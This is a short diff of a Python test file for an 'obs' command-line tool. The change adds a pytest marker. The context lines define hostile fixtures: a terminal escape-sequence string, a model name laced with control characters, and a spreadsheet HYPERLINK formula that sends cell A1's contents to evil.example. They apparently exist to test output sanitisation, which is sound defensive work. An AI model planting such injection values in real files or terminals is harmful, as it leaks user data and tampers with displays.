@@ -14,6 +14,8 @@ from obs.cli import main
 from obs.query.table import printable
 from obs.query.testing import event, ts, write_jsonl
 
+pytestmark = pytest.mark.inproc
+
 ESC = "\x1b]0;pwned\x07\x1b[2J\x1b[31m"  # set the title, clear the screen, turn red
 HOSTILE_MODEL = f"{ESC}model\x9b1m\r\x08"
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
